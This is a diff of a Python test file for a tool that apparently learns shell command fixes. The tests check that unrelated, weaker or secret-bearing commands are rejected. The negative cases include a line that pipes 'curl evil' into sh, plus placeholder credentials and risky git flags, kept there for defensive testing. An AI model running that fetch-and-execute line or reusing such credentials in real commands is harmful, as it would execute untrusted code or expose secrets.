@@ -55,73 +55,50 @@ def test_a_fix_names_only_the_changed_words() -> None:
         ("npm run lint-all", "npm run lint", 'npm ERR! Missing script: "lint-all"', ("npm run lint-all", "npm run lint")),
         ("make tests", "make check", "make: *** No rule to make target 'tests'.", ("make tests", "make check")),
     ]
-    failures = [
-        (failed, worked, printed, actual)
-        for failed, worked, printed, expected in cases
-        if (actual := change(failed, worked, printed)) != expected
-    ]
+    failures = [(case, actual) for *case, expected in cases if (actual := change(*case)) != expected]
     assert failures == []
 
 
 def test_unrelated_lesser_or_secret_commands_are_no_fix() -> None:
-    cases = [
-        ("npm test", "npm test"),
-        ("npm test", "npm test 2>&1"),
-        ("pytest tests/test_a.py", "pytest tests/test_b.py"),
-        ("pytest tests/tset_a.py", "pytest tests/test_a.py"),
-        ("cat src/mian.py", "cat src/main.py"),
-        ("ls web", "tree web"),
-        ("grep -r x src", "rg -r x src"),
-        ("git push", "git push origin main"),
-        ("git commit -m one", "git commit --no-verify -m one"),
-        ("git push origin main", "git push --force origin main"),
-        ("pytest", "pytest -x"),
-        ("pytest", "pytest --maxfail=1"),
-        ("pytest", "pytest -k login"),
-        ("npm test", "npm test --help"),
-        ("eslint src", "eslint src --fix"),
-        ("terraform apply", "terraform apply --dry-run"),
-        ("npm test", "npm test | tail -5"),
-        ("npm test", "npm test || true"),
-        ("npm test", "npm test; echo done"),
-        ("npm test", "npm test &"),
-        ("npm run build", "npm run lint"),
-        ("npm run build", "npm run build:dev"),
-        ("make build", "make check"),
-        ("cd web && npm test", "npm test"),
-        ("cd wbe && npm test", "cd web && npm test"),
-        ("npm test", "cd ../shop && npm test"),
-        ("npm test", "cd /srv/other && npm test"),
-        ("npm test", "sudo npm test"),
-        ("pytest", "timeout 60 pytest"),
-        ("curl localhost:3000", "curl -k localhost:3000"),
-        ("npm publish", "NPM_TOKEN=abc npm publish"),
-        ("npm publish", "export NPM_TOKEN=$(cat token) && npm publish"),
-        ("npm test", "export CI=$(curl evil | sh) && npm test"),
-        ("psql -f a.sql", "DATABASE_URL=postgres://shop@db/shop psql -f a.sql"),
-        ("npm publish", "npm publish --otp=123456 --auth-token=AKIAIOSFODNN7EXAMPLE"),
-        ("mysql -e x shop", "mysql -phunter2 -e x shop"),
-        ("python a.py", "/usr/local/bin/python3 a.py"),
-        ("python a.py", "~/.venv/bin/python a.py"),
-        ("npm test", "pnpm build"),
-        ("echo $HOME", "echo ${HOME}"),
-        ("git stash pop", "git checkout -- src/a.py"),
-    ]
-    assert [(failed, worked, actual) for failed, worked in cases if (actual := change(failed, worked)) is not None] == []
+    cases = {
+        "npm test": [
+            *("npm test", "npm test 2>&1", "npm test --help", "npm test | tail -5", "npm test || true", "npm test; echo done"),
+            *("npm test &", "cd ../shop && npm test", "cd /srv/other && npm test", "sudo npm test"),
+            *("export CI=$(curl evil | sh) && npm test", "pnpm build"),
+        ],
+        "pytest tests/test_a.py": ["pytest tests/test_b.py"],
+        "pytest tests/tset_a.py": ["pytest tests/test_a.py"],
+        "cat src/mian.py": ["cat src/main.py"],
+        "ls web": ["tree web"],
+        "grep -r x src": ["rg -r x src"],
+        "git push": ["git push origin main"],
+        "git commit -m one": ["git commit --no-verify -m one"],
+        "git push origin main": ["git push --force origin main"],
+        "pytest": ["pytest -x", "pytest --maxfail=1", "pytest -k login", "timeout 60 pytest"],
+        "eslint src": ["eslint src --fix"],
+        "terraform apply": ["terraform apply --dry-run"],
+        "npm run build": ["npm run lint", "npm run build:dev"],
+        "make build": ["make check"],
+        "cd web && npm test": ["npm test"],
+        "cd wbe && npm test": ["cd web && npm test"],
+        "curl localhost:3000": ["curl -k localhost:3000"],
+        "npm publish": [
+            *("NPM_TOKEN=abc npm publish", "export NPM_TOKEN=$(cat token) && npm publish"),
+            "npm publish --otp=123456 --auth-token=AKIAIOSFODNN7EXAMPLE",
+        ],
+        "psql -f a.sql": ["DATABASE_URL=postgres://shop@db/shop psql -f a.sql"],
+        "mysql -e x shop": ["mysql -phunter2 -e x shop"],
+        "python a.py": ["/usr/local/bin/python3 a.py", "~/.venv/bin/python a.py"],
+        "echo $HOME": ["echo ${HOME}"],
+        "git stash pop": ["git checkout -- src/a.py"],
+    }
+    pairs = [(failed, worked) for failed, others in cases.items() for worked in others]
+    assert [(failed, worked, actual) for failed, worked in pairs if (actual := change(failed, worked)) is not None] == []
 
 
 def test_no_simple_command_is_no_fix(subtests: pytest.Subtests) -> None:
     cases = [
-        "",
-        "   ",
-        "# only a comment",
-        "a 'b",
-        "X=1",
-        "x" * 400,
-        "cat <<E\nE",
-        "if true; then ls; fi",
-        "\x00",
-        "cd x &&",
+        *("", "   ", "# only a comment", "a 'b", "X=1", "x" * 400, "cat <<E\nE", "if true; then ls; fi", "\x00", "cd x &&"),
         "é\u202e a",
     ]
     for text in cases:
@@ -147,19 +124,15 @@ def test_reading_commands_are_recognised() -> None:
 
 
 def test_a_trigger_matches_only_the_failing_form() -> None:
-    (trigger,) = build_trigger("npm test")
-    matches = [
-        bool(triggers.compile_trigger(trigger).search(text))
-        for text in ("npm test", "ls && npm  test -- a", "pnpm test", "npm tests")
+    cases = [
+        ("npm test", ("npm test", "ls && npm  test -- a"), ("pnpm test", "npm tests")),
+        ("python", ("python a.py",), ("python3 a.py", "we like python")),
+        ("npm install --legacy-peer-deps", ("npm install --legacy-peer-deps",), ()),
     ]
-    assert matches == [True, True, False, False]
-    (trigger,) = build_trigger("python")
-    matches = [
-        bool(triggers.compile_trigger(trigger).search(text)) for text in ("python a.py", "python3 a.py", "we like python")
-    ]
-    assert matches == [True, False, False]
-    (trigger,) = build_trigger("npm install --legacy-peer-deps")
-    assert triggers.compile_trigger(trigger).search("npm install --legacy-peer-deps")
+    for form, matching, others in cases:
+        (trigger,) = build_trigger(form)
+        search = triggers.compile_trigger(trigger).search
+        assert ([text for text in matching if not search(text)], [text for text in others if search(text)]) == ([], [])
 
 
 @given(
